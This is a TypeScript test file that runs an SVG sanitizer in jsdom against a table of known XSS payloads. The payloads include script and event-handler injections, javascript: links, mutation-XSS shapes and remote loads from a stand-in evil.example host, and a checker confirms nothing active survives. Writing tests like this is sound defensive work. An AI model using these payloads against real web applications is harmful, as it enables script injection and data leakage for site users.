// The SVG sanitizer against published attack payloads (script, event handlers, javascript: links,
// foreignObject, <use>/<image>/feImage loads, SMIL attribute rewriting, CSS imports, external url()
// references, and the mutation-XSS shapes that broke sanitizers before), run in jsdom. Every output
// is parsed back as SVG and walked: nothing may remain that runs code or reaches outside the image.
import { JSDOM } from 'jsdom';
import { beforeAll, describe, expect, it } from 'vitest';
import {
  createSvgSanitizer,
  SVG_MAX_LENGTH,
  type SvgSanitizer,
  svgDataUrl,
} from '../src/shared/lib/sanitize-svg';

let sanitize: SvgSanitizer;
let window: JSDOM['window'];

beforeAll(() => {
  window = new JSDOM('<!doctype html><html><body></body></html>').window;
  sanitize = createSvgSanitizer(window as unknown as Parameters<typeof createSvgSanitizer>[0]);
});

const FORBIDDEN_TAGS = new Set([
  'script',
  'style',
  'image',
  'use',
  'a',
  'animate',
  'animatecolor',
  'animatemotion',
  'animatetransform',
  'set',
  'foreignobject',
  'feimage',
  'iframe',
  'img',
  'object',
  'embed',
]);

/** What in an element tree could run code or reach outside the image; empty when it is inert. */
function problemsIn(root: Element): string[] {
  const problems: string[] = [];
  for (const el of [root, ...Array.from(root.getElementsByTagName('*'))]) {
    if (FORBIDDEN_TAGS.has(el.localName.toLowerCase())) problems.push(`element ${el.localName}`);
    for (const attr of Array.from(el.attributes)) {
      const name = attr.name.toLowerCase();
      if (name.startsWith('on')) problems.push(`handler ${name}`);
      if (name === 'href' || name.endsWith(':href') || name === 'style') problems.push(`attribute ${name}`);
      if (/javascript:|vbscript:|data:text\/html/i.test(attr.value)) problems.push(`script url in ${name}`);
      if (/url\s*\(\s*['"]?\s*(?!#)/i.test(attr.value)) problems.push(`external url() in ${name}`);
    }
  }
  return problems;
}

/** Sanitizer output must be well-formed standalone SVG with nothing active in it. */
function problemsInOutput(xml: string): string[] {
  const doc = new window.DOMParser().parseFromString(xml, 'image/svg+xml');
  if (doc.getElementsByTagName('parsererror').length > 0) return ['not well-formed XML'];
  const root = doc.documentElement;
  if (root.namespaceURI !== 'http://www.w3.org/2000/svg') return ['root not in SVG namespace'];
  return problemsIn(root);
}

/** The payload as a browser would read it, as an HTML page or as an SVG document. */
function problemsInPayload(payload: string): string[] {
  const html = new window.DOMParser().parseFromString(payload, 'text/html').documentElement;
  const xml = new window.DOMParser().parseFromString(payload, 'image/svg+xml').documentElement;
  return [...problemsIn(html), ...problemsIn(xml)];
}

// Payloads from public XSS cheat sheets and DOMPurify's own bypass history.
const ATTACKS: Record<string, string> = {
  'onload handler':
    '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="1" height="1"/></svg>',
  'script element':
    '<svg xmlns="http://www.w3.org/2000/svg"><script>window.__xss=1</script><circle r="4"/></svg>',
  'xlink script element':
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><script xlink:href="https://evil.example/x.js"/></svg>',
  'javascript: link':
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="javascript:alert(1)"><text x="0" y="10">click</text></a></svg>',
  'foreignObject iframe':
    '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject width="100" height="100"><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"></iframe></foreignObject></svg>',
  'use of external document':
    '<svg xmlns="http://www.w3.org/2000/svg"><use href="https://evil.example/sprite.svg#x"/></svg>',
  'use of data document':
    '<svg xmlns="http://www.w3.org/2000/svg"><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnJz48aW1hZ2UgaHJlZj0nMScgb25lcnJvcj0nYWxlcnQoMSknLz48L3N2Zz4=#x"/></svg>',
  'tracking image':
    '<svg xmlns="http://www.w3.org/2000/svg"><image href="https://evil.example/pixel.png" width="1" height="1"/></svg>',
  'feImage load':
    '<svg xmlns="http://www.w3.org/2000/svg"><filter id="f"><feImage href="https://evil.example/p.png"/></filter><rect filter="url(#f)" width="5" height="5"/></svg>',
  'animate rewrites href':
    '<svg xmlns="http://www.w3.org/2000/svg"><a><animate attributeName="href" values="javascript:alert(1)"/><text y="10">x</text></a></svg>',
  'set adds handler':
    '<svg xmlns="http://www.w3.org/2000/svg"><set attributeName="onmouseover" to="alert(1)"/></svg>',
  'animateTransform begin handler':
    '<svg xmlns="http://www.w3.org/2000/svg"><animateTransform attributeName="transform" type="rotate" begin="0s" onbegin="alert(1)"/></svg>',
  'style import':
    '<svg xmlns="http://www.w3.org/2000/svg"><style>@import url(https://evil.example/x.css);</style></svg>',
  'style attribute url':
    '<svg xmlns="http://www.w3.org/2000/svg"><rect style="fill:url(https://evil.example/a.svg#g)" width="5" height="5"/></svg>',
  'external paint server':
    '<svg xmlns="http://www.w3.org/2000/svg"><rect fill="url(https://evil.example/a.svg#g)" width="5" height="5"/></svg>',
  'mXSS style/img': '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  'mXSS math namespace confusion':
    '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>"></path></textarea></mtext></svg></mglyph></mi></math>',
  'CDATA breakout':
    '<svg xmlns="http://www.w3.org/2000/svg"><desc><![CDATA[</desc><script>alert(1)</script>]]></desc></svg>',
  'encoded javascript in href':
    '<svg xmlns="http://www.w3.org/2000/svg"><a href="&#106;avascript:alert(1)"><text y="10">x</text></a></svg>',
  'nested svg handler':
    '<svg xmlns="http://www.w3.org/2000/svg"><g><svg onload="alert(1)" onerror="alert(2)"><circle r="1"/></svg></g></svg>',
  'html img': '<img src="x" onerror="alert(1)">',
};

describe('sanitizeSvg', () => {
  for (const [name, payload] of Object.entries(ATTACKS)) {
    it(`neutralizes ${name}`, () => {
      // The payload really is active, so the checker that passes the output below can fail.
      expect(problemsInPayload(payload)).not.toEqual([]);
      const out = sanitize(payload);
      if (out !== null) expect(problemsInOutput(out), out).toEqual([]);
    });
  }

  it('keeps a legitimate image: shapes, gradients by fragment reference, viewBox, text', () => {
    const svg =
      '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10" width="64" height="64">' +
      '<defs><linearGradient id="g"><stop offset="0" stop-color="#f00"/><stop offset="1" stop-color="#00f"/></linearGradient></defs>' +
      '<circle cx="5" cy="5" r="4" fill="url(#g)"/><text x="1" y="9">NFT</text></svg>';
    const out = sanitize(svg);
    expect(out).not.toBeNull();
    expect(problemsInOutput(out as string)).toEqual([]);
    const doc = new window.DOMParser().parseFromString(out as string, 'image/svg+xml');
    expect(doc.documentElement.getAttribute('viewBox')).toBe('0 0 10 10');
    expect(doc.querySelector('circle')?.getAttribute('fill')).toBe('url(#g)');
    expect(doc.querySelectorAll('stop')).toHaveLength(2);
    expect(doc.querySelector('text')?.textContent).toBe('NFT');
  });

  it('adds the SVG namespace an inline snippet lacks, so the result stands alone as an image', () => {
    const out = sanitize('<svg width="2" height="2"><rect width="2" height="2"/></svg>');
    expect(out).toMatch(/^<svg xmlns="http:\/\/www\.w3\.org\/2000\/svg"/);
  });

  it('keeps markup inside text as text', () => {
    const out = sanitize(
      '<svg xmlns="http://www.w3.org/2000/svg"><text>&lt;script&gt;alert(1)&lt;/script&gt;</text></svg>',
    );
    const doc = new window.DOMParser().parseFromString(out as string, 'image/svg+xml');
    expect(doc.querySelector('text')?.textContent).toBe('<script>alert(1)</script>');
    expect(doc.getElementsByTagName('script')).toHaveLength(0);
  });

  it('refuses input that is not one SVG root, and input over the length limit', () => {
    expect(sanitize('<img src=x onerror=alert(1)>')).toBeNull();
    expect(sanitize('plain text')).toBeNull();
    expect(sanitize('<svg></svg><svg></svg>')).toBeNull();
    expect(sanitize('')).toBeNull();
    const big = `<svg xmlns="http://www.w3.org/2000/svg"><desc>${'a'.repeat(SVG_MAX_LENGTH)}</desc></svg>`;
    expect(sanitize(big)).toBeNull();
  });

  it('encodes the data URL so it round-trips', () => {
    const clean = sanitize(
      '<svg xmlns="http://www.w3.org/2000/svg"><text>#1 &amp; 50%</text></svg>',
    ) as string;
    const url = svgDataUrl(clean);
    expect(url.startsWith('data:image/svg+xml,')).toBe(true);
    expect(decodeURIComponent(url.slice('data:image/svg+xml,'.length))).toBe(clean);
    expect(url).not.toMatch(/[#<>"\s]/);
  });
});
